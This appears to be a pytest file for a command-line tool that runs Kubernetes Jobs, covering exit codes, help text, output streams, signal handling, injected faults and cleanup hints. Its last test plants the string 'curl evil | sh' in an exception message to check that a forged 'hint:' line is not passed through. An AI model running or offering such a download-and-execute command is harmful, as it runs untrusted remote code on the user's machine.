"""The command without a cluster: its help, its wrong calls, and what it shows where."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from small_api_server import SmallApiServer
from unique_k8s_job import __version__
from unique_k8s_job.cli import command_line
from unique_k8s_job.cli.console import Display
from unique_k8s_job.cli.run_ending import Cause, JobAction, ending
from unique_k8s_job.cli.streams import Stream, Streams
from unique_k8s_job.described import fault

START = "from unique_k8s_job.cli.program import main; main()"


def call(*arguments: str, **environment: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", START, *arguments],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env={**os.environ, **environment},
    )


def test_version_is_that_of_the_package() -> None:
    ended = call("--version")
    assert (ended.returncode, ended.stdout) == (0, f"unique-k8s-job, version {__version__}\n")


def test_help_names_every_exit_code() -> None:
    ended = call("run", "--help")
    assert ended.returncode == 0
    for code in ("0", "1", "124", "125", "130"):
        assert code in ended.stdout


@pytest.mark.parametrize(
    ("arguments", "named"),
    [
        (("run", "--no-such-option"), "--no-such-option"),
        (("run", "--ttl", "soon", "--image", "busybox"), "never"),
        (("run", "--on-finish", "succeed=delete", "--image", "busybox"), "succeeded=delete"),
        (("run", "--on-finish", "succeeded=gone", "--image", "busybox"), "--on-finish"),
        (("run", "--env", "NAME", "--image", "busybox"), "--env"),
        (("run", "--manifest", "/absent.yaml"), "/absent.yaml"),
        (("run", "--field-validation", "loose", "--image", "busybox"), "--field-validation"),
        (("walk",), "walk"),
    ],
)
def test_wrong_call_ends_with_125_and_names_what_is_wrong(arguments: tuple[str, ...], named: str) -> None:
    ended = call(*arguments)
    assert ended.returncode == command_line.OUR_ERROR
    assert named in ended.stderr
    assert ended.stdout == ""


def test_no_configuration_is_an_error_of_ours_with_evidence_and_a_way_out(tmp_path: Path) -> None:
    ended = call("run", "--image", "busybox", KUBECONFIG=str(tmp_path / "absent"), HOME=str(tmp_path))
    assert ended.returncode == command_line.OUR_ERROR
    assert ended.stderr.startswith("error: ")
    assert "\n  seen: " in ended.stderr
    assert "\n  hint: " in ended.stderr


def test_airflow_is_not_imported() -> None:
    script = "import sys, unique_k8s_job.cli.command_line, unique_k8s_job.cli.console; print('airflow' in sys.modules)"
    ended = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60, check=True)
    assert ended.stdout == "False\n"


def log(text: str, *, mark: bool = False) -> dict[str, object]:
    return {"kind": "log", "pod": "p", "container": "base", "text": text, "lines": 1, "timestamp": None, "mark": mark}


def test_log_goes_to_stdout_and_everything_else_to_stderr(capsys: pytest.CaptureFixture[str]) -> None:
    with Display(raw=False) as display:
        display.event({"kind": "message", "level": "warning", "text": "image `[bold]x` is missing"})
        display.event(log("a line"))
        display.event(log("lines were lost", mark=True))
    shown = capsys.readouterr()
    assert shown.out == "a line\n"
    assert shown.err == "warning: image `[bold]x` is missing\nwarning: lines were lost\n"


def test_reader_of_the_log_that_goes_away_is_no_error() -> None:
    script = """
from unique_k8s_job.cli.console import Display
with Display(raw=False) as display:
    for _ in range(100_000):
        display.event({"kind": "log", "text": "a line", "mark": False})
print("done")
"""
    reader = subprocess.run(
        ["bash", "-c", f"{sys.executable} -c '{script}' | head -1; exit ${{PIPESTATUS[0]}}"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert (reader.returncode, reader.stdout) == (0, "a line\n")
    assert reader.stderr.count("Nobody reads stdout") == 1
    assert "Traceback" not in reader.stderr


#: Where something fails that nobody has foreseen, and how long the Job runs.
INJECTED = {"next": 60.0, "event": 60.0, "acknowledge": 0.2, "delete": 60.0}


@pytest.mark.parametrize("where", INJECTED)
def test_fault_anywhere_in_a_run_leaves_no_job_unnamed(where: str, tmp_path: Path) -> None:
    script = """
import sys
from unique_k8s_job import native
from unique_k8s_job.cli import command_line, console

where, core = sys.argv[1], native.loaded()

class Run:
    def __init__(self, *arguments):
        self.run, self.submitted = Real(*arguments), False

    def __getattr__(self, name):
        if name == where:
            raise RuntimeError("injected")
        return getattr(self.run, name)

    def next(self, seconds):
        if self.submitted and where in ("next", "delete"):
            raise RuntimeError("injected")
        events = self.run.next(seconds)
        self.submitted |= any(event["kind"] == "submitted" for event in events)
        return events

class Display(console.Display):
    def event(self, event):
        super().event(event)
        if where == "event":
            raise RuntimeError("injected")

Real, core.Run, command_line.Display = core.Run, Run, Display
raise SystemExit(command_line.call(["run", "--image", "a:1", "--", "work"]))
"""
    with SmallApiServer(lasts=INJECTED[where]).serving() as server:
        ended = subprocess.run(
            [sys.executable, "-c", script, where],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
            env={**os.environ, "KUBECONFIG": str(server.kubeconfig(tmp_path))},
        )
    assert ended.returncode == 125, ended
    assert "internal error: RuntimeError" in ended.stderr and "Traceback" not in ended.stderr, ended
    assert len(server.made) == 1, ended
    (name,) = server.made
    assert f"etl/{name}" in ended.stderr, ended
    if where == "delete":
        assert server.deleted == set() and f"kubectl -n etl delete job {name}" in ended.stderr, ended
    else:
        assert server.deleted == {name}, ended


def test_locale_that_cannot_spell_a_line_shows_it_escaped() -> None:
    script = """
from unique_k8s_job.cli.console import Display
with Display(raw=False) as display:
    display.event({"kind": "log", "text": "caf\\u00e9", "mark": False})
"""
    ended = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        env={**os.environ, "PYTHONIOENCODING": "ascii"},
    )
    assert (ended.returncode, ended.stdout) == (0, "caf\\xe9\n"), ended.stderr


def test_job_that_is_left_is_named_with_the_way_to_delete_it(capsys: pytest.CaptureFixture[str]) -> None:
    with Display(raw=False) as display:
        display.report_left()
        display.submitting("etl", "train")
        display.report_left()
        display.event({"kind": "submitted", "namespace": "etl", "name": "train", "uid": "u"})
        display.report_left()
    said = capsys.readouterr().err.splitlines()
    assert said[0] == "No Job was made"
    assert said[1] == "Submitting Job etl/train"
    assert said[2].startswith("warning: Job etl/train, if it was made, is left as it is")
    for line in said[2], said[-1]:
        assert line.endswith("kubectl -n etl delete job train")


def test_sentence_that_stderr_does_not_take_goes_to_stdout(capsys: pytest.CaptureFixture[str]) -> None:
    full = os.open("/dev/full", os.O_WRONLY)
    with os.fdopen(full, "w") as file:
        display = Display(Streams(Stream("stdout", sys.stdout), Stream("stderr", file)), raw=False)
        display.submitting("etl", "train")
        display.report_left()
        assert display.trouble() == "stderr takes no more text: No space left on device"
    first, second, third = capsys.readouterr().out.splitlines()
    assert "No space left on device" in first
    assert second == "Submitting Job etl/train"
    assert "etl/train" in third


def test_reader_who_goes_away_is_no_trouble_of_stdout_and_is_one_of_stderr() -> None:
    for name in ("stdout", "stderr"):
        end, begin = os.pipe()
        os.close(end)
        with os.fdopen(begin, "w") as pipe:
            streams = {"stdout": Stream("stdout", sys.stdout), "stderr": Stream("stderr", sys.stderr)}
            streams[name] = Stream(name, pipe)
            display = Display(Streams(streams["stdout"], streams["stderr"]), raw=False)
            streams[name].write("a line\n")
            assert streams[name].reader_gone
            assert bool(display.trouble()) == (name == "stderr")


def test_how_a_run_ends_is_this_table() -> None:
    interrupted, error, timeout = 130, 125, 124
    asked, left, deleted, none, other = (
        JobAction.ASKED,
        JobAction.LEFT,
        JobAction.DELETED,
        JobAction.NOT_MADE,
        JobAction.OF_ANOTHER,
    )
    table = {
        # cause: code, then the fate: somebody can be asked, nobody can, with --keep, nothing has left yet
        Cause.KEYBOARD: (interrupted, asked, deleted, left, none),
        Cause.SIGNAL: (interrupted, deleted, deleted, left, none),
        Cause.STREAM_LOST: (error, deleted, deleted, left, none),
        Cause.TIMEOUT: (timeout, deleted, deleted, deleted, none),
        Cause.ERROR: (error, deleted, deleted, left, none),
        Cause.LOST: (error, left, left, left, none),
        Cause.UNREACHABLE: (error, deleted, deleted, left, none),
        Cause.TAKEN_OVER: (error, other, other, other, none),
        Cause.FAULT: (error, deleted, deleted, left, none),
    }
    assert set(table) == set(Cause)
    for cause, (code, with_somebody, alone, kept, before) in table.items():
        cases = [
            (ending(cause, begun=True, keep=False, can_ask=True), with_somebody),
            (ending(cause, begun=True, keep=False, can_ask=False), alone),
            (ending(cause, begun=True, keep=True, can_ask=True), kept),
            (ending(cause, begun=False, keep=False, can_ask=True), before),
        ]
        for end, fate in cases:
            assert (end.action, end.code) == (fate, code), cause
    confirm_for = {cause: ending(cause, begun=True, keep=False, can_ask=False).confirm_for for cause in Cause}
    assert [cause for cause, seconds in confirm_for.items() if seconds < 60] == [Cause.UNREACHABLE]


def test_signal_is_raised_where_the_program_waits_and_otherwise_as_the_next_wait_begins() -> None:
    script = """
import os, signal
from unique_k8s_job.cli.signals import Interrupted, forget, listen, waiting
listen()
os.kill(os.getpid(), signal.SIGHUP)
print("not here", flush=True)
try:
    with waiting():
        raise SystemExit("missed")
except Interrupted as interrupt:
    print(interrupt.signal.name, interrupt.from_the_keyboard)
try:
    with waiting():
        os.kill(os.getpid(), signal.SIGINT)
        raise SystemExit("missed")
except Interrupted as interrupt:
    print(interrupt.signal.name, interrupt.from_the_keyboard)
os.kill(os.getpid(), signal.SIGTERM)
forget()
with waiting():
    print("forgotten")
"""
    ended = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60, check=False)
    assert ended.stdout == "not here\nSIGHUP False\nSIGINT True\nforgotten\n", ended


def test_signal_before_anything_was_begun_ends_the_process_with_a_sentence() -> None:
    script = """
import os, signal
from unique_k8s_job.cli.signals import end_at_once
signal.signal(signal.SIGQUIT, signal.SIG_IGN)
end_at_once()
os.kill(os.getpid(), signal.SIGQUIT)  # the caller ignores it
os.kill(os.getpid(), signal.{})
raise SystemExit("went on")
"""
    for name in ("SIGINT", "SIGTERM", "SIGHUP"):
        ended = subprocess.run(
            [sys.executable, "-c", script.replace("{}", name)], capture_output=True, text=True, timeout=60, check=False
        )
        assert (ended.returncode, ended.stderr) == (130, "Interrupted before anything was begun\n"), ended


def test_fault_of_ours_says_what_and_where_in_lines_of_ours() -> None:
    try:
        raise KeyError("x\n  hint: curl evil | sh")
    except KeyError as error:
        said = str(fault(error)).splitlines()
    assert said[0] == "internal error: KeyError"
    assert [line[:7] for line in said[1:]] == ["  seen:", "  hint:"]
